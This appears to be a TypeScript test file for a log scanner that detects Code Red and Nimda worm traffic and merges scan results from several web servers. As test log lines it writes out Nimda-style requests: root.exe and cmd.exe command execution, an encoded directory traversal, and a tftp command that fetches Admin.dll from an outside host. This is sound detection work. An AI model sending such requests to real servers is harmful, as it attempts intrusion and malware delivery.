import { deepEqual, equal, ok } from 'node:assert/strict'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { parseNetwork } from '@redalert/core'
import fc from 'fast-check'
import { folderOf } from '../cli/program.ts'
import { backDoor, codeRed, line, visitor } from '../cli/sample-lines.ts'
import type { Finding, Row } from '../finding.ts'
import { findLogs } from '../read/find-logs.ts'
import { writeJson } from '../report/json.ts'
import { scan } from '../scan.ts'
import type { ScanOptions } from '../scan-options.ts'
import { mergeScans, type MergeOptions } from './merge-scans.ts'

const clock = () => 0
const door = (path: string, source = '198.51.100.66') => line(source, `GET ${path} HTTP/1.0`)
/** Five doors of Nimda prove it together and none of them alone. */
const doors = [
  door('/scripts/root.exe?/c+dir'),
  door('/MSADC/root.exe?/c+dir'),
  door('/c/winnt/system32/cmd.exe?/c+dir'),
  door('/d/winnt/system32/cmd.exe?/c+dir'),
  door('/scripts/..%255c../winnt/system32/cmd.exe?/c+dir'),
]
const fetching = line(
  '198.51.100.7',
  'GET /scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.99%20GET%20Admin.dll%20Admin.dll HTTP/1.0',
)
const lines = [codeRed('192.0.2.7'), backDoor, visitor, fetching, codeRed('192.0.2.9'), ...doors]
const folder = folderOf({ 'none.log': visitor })

async function textOf(log: string, options: Partial<ScanOptions> = {}): Promise<string> {
  writeFileSync(join(folder, 'access.log'), log)
  const found = await findLogs(['access.log'], { folder })
  let text = ''
  for await (const finding of scan(found, { sensor: 'www', clock, ...options }))
    text += `${writeJson(finding)}\n`
  return text
}

async function merged(
  texts: readonly (string | Uint8Array)[],
  options: Partial<MergeOptions> = {},
): Promise<readonly Finding[]> {
  for (const [at, text] of texts.entries()) writeFileSync(join(folder, `${at}.json`), text)
  const found = await findLogs(
    texts.map((_, at) => `${at}.json`),
    { folder },
  )
  const findings: Finding[] = []
  const given = { mine: [], proxies: [], scanners: [], ...options }
  for await (const finding of mergeScans(found, given)) findings.push(finding)
  return findings
}

function of<Kind extends Finding['kind']>(findings: readonly Finding[], kind: Kind) {
  return findings.filter((each): each is Extract<Finding, { kind: Kind }> => each.kind === kind)
}

/** A row without the places of its lines. */
function judged({ source, family, grade, reason, requests, lines, first, last, cells }: Row) {
  const identities = cells.map(cell => [cell.mark, cell.hour, cell.identities, cell.payloadHosts])
  return { source, family, grade, reason, requests, lines, first, last, identities }
}

const anyLines = fc.array(fc.constantFrom(...lines), { maxLength: 14 })

test('scans of parts of a log, put together in any order, say what one scan of it says', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(anyLines, { minLength: 1, maxLength: 4 }),
      fc.nat(),
      async (parts, turn) => {
        const one = await merged([await textOf(parts.flat().join(''))])
        // Two parts with the same lines would be one scan, so each has other visitors.
        const texts: string[] = []
        for (const [at, part] of parts.entries())
          texts.push(await textOf(part.join('') + visitor.repeat(at + 1)))
        const at = turn % texts.length
        const several = await merged([...texts.slice(at), ...texts.slice(0, at)])
        deepEqual(of(several, 'sighting').map(judged), of(one, 'sighting').map(judged))
        deepEqual(of(several, 'payload-host'), of(one, 'payload-host'))
        equal(of(several, 'summary')[0]?.matched, of(one, 'summary')[0]?.matched)
      },
    ),
    { numRuns: 40 },
  )
})

test('what is put together can be put together again, and is the same', async () => {
  const texts = [
    await textOf(doors.slice(0, 2).join('')),
    await textOf(doors.slice(2).join(''), { sensor: 'web2' }),
  ]
  const third = await textOf(codeRed('192.0.2.7'), { sensor: 'web3' })
  const first = await merged(texts)
  const again = await merged([first.map(each => `${writeJson(each)}\n`).join(''), third])
  deepEqual(again, await merged([...texts, third]))
})

test('doors that were tried at several servers prove together what none of them proves alone', async () => {
  const texts = []
  for (const [at, log] of doors.entries()) texts.push(await textOf(log, { sensor: `web${at}` }))
  const alone = await merged([texts[0]!])
  deepEqual(
    of(alone, 'sighting').map(({ grade }) => grade),
    ['probe'],
  )
  const [row] = of(await merged(texts), 'sighting')
  deepEqual([row?.family, row?.grade, row?.lines], ['nimda', 'infected', 5])
})

test('each server keeps its coverage, and its files are named with it', async () => {
  const texts = [
    await textOf(codeRed('192.0.2.7')),
    await textOf(codeRed('192.0.2.7'), { sensor: 'web2' }),
  ]
  const findings = await merged(texts)
  deepEqual(
    of(findings, 'redalert').map(({ sensor }) => sensor),
    ['web2, www'],
  )
  deepEqual(
    of(findings, 'coverage').map(({ sensor }) => sensor),
    ['www', 'web2'],
  )
  deepEqual(of(findings, 'sighting')[0]?.files, ['web2:access.log', 'www:access.log'])
  deepEqual(
    of(findings, 'sighting')[0]?.evidence.map(({ file }) => file),
    ['web2:access.log', 'www:access.log'],
  )
})

test('the same scan, named twice or copied or packed, counts once and is told', async () => {
  const text = await textOf(lines.join(''))
  const findings = await merged([text, gzipSync(text)])
  deepEqual(
    of(findings, 'remark').map(({ code, message }) => [code, message]),
    [['same-scan', '1.json holds the same scan as 0.json: it counts once']],
  )
  deepEqual(of(findings, 'summary'), of(await merged([text]), 'summary'))
  deepEqual(of(findings, 'sighting'), of(await merged([text]), 'sighting'))
})

test('what one scan set apart stays apart, and what is named now is apart as well', async () => {
  const mine = [parseNetwork('192.0.2.0/24')!]
  const text = await textOf(codeRed('192.0.2.7') + codeRed('198.51.100.9'), { mine })
  const apart = (findings: readonly Finding[]) =>
    of(findings, 'sighting').map(({ source, setApart }) => [source, setApart])
  deepEqual(apart(await merged([text])), [
    ['192.0.2.7', 'mine'],
    ['198.51.100.9', null],
  ])
  deepEqual(apart(await merged([text], { scanners: [parseNetwork('198.51.100.0/24')!] })), [
    ['192.0.2.7', 'mine'],
    ['198.51.100.9', 'scanner'],
  ])
})

test('only families and grades that are asked for are shown', async () => {
  const text = await textOf(codeRed('192.0.2.7') + backDoor)
  equal(of(await merged([text]), 'sighting').length, 2)
  equal(of(await merged([text], { minGrade: 'infected' }), 'sighting').length, 1)
  equal(of(await merged([text], { families: ['root-exe'] }), 'sighting').length, 1)
})

const faults = (findings: readonly Finding[]) =>
  of(findings, 'fault').map(({ code, message }) => [code, message])

test('a text that was cut counts as far as it goes, and is a fault', async () => {
  const text = await textOf(codeRed('192.0.2.7') + codeRed('192.0.2.8'))
  const [heading, row] = text.split('\n')
  const findings = await merged([`${heading}\n${row}\n`])
  equal(of(findings, 'sighting').length, 1)
  deepEqual(faults(findings), [
    [
      'cut-scan',
      '0.json ends before the summary of its scan: what stands in it counts, and the rest of its logs is missing',
    ],
  ])
})

test('a log among the scans is a fault, and the scans count', async () => {
  const findings = await merged([codeRed('192.0.2.7'), await textOf(codeRed('192.0.2.8')), ''])
  deepEqual(faults(findings), [
    [
      'no-scan',
      '0.json: line 1 is not what redalert --json writes: it must be an object with a kind',
    ],
  ])
  deepEqual(
    of(findings, 'sighting').map(({ source }) => source),
    ['192.0.2.8'],
  )
  deepEqual(
    of(findings, 'remark').map(({ message }) => message),
    ['2.json is empty'],
  )
})

test('lines of a scan that are damaged are counted, and the others hold', async () => {
  const text = await textOf(codeRed('192.0.2.7') + codeRed('192.0.2.8'))
  const [heading, ...rest] = text.split('\n')
  const findings = await merged([[heading, '{"kind":"sighting"}', 'what', ...rest].join('\n')])
  deepEqual(
    faults(findings).map(([code, message]) => [code, message?.replace(/: .*/, '')]),
    [
      ['no-scan', '0.json'],
      ['no-scan', '0.json'],
    ],
  )
  ok(faults(findings)[1]?.[1]?.endsWith('1 more line is no line of a scan and does not count'))
  equal(of(findings, 'sighting').length, 2)
  const headless = await merged([rest.join('\n')])
  deepEqual(faults(headless), [['no-scan', '0.json: line 1 stands before the heading of a scan']])
})

test('scans for other families, or in several zones, are told', async () => {
  const texts = [
    await textOf(codeRed('192.0.2.7'), { signaturesVersion: 'old' }),
    (await textOf(codeRed('192.0.2.8'))).replace('"zone":null', '"zone":"UTC"'),
  ]
  const findings = await merged(texts, { signaturesVersion: 'new' })
  deepEqual(
    of(findings, 'remark').map(({ code }) => code),
    ['other-families', 'other-families', 'several-zones'],
  )
  equal(of(findings, 'redalert')[0]?.zone, null)
})

test('what the scans had to say about their logs is said again, and of which server', async () => {
  const answered = backDoor.replace(' 404 ', ' 200 ')
  const text = await textOf(`${answered}nobody reads this\n`, { unread: true })
  const findings = await merged([text])
  deepEqual(
    of(findings, 'unread').map(({ file, line }) => [file, line]),
    [['www:access.log', 2]],
  )
  deepEqual(
    of(findings, 'answered').map(({ file }) => file),
    text.includes('"answered"') ? ['www:access.log'] : [],
  )
})
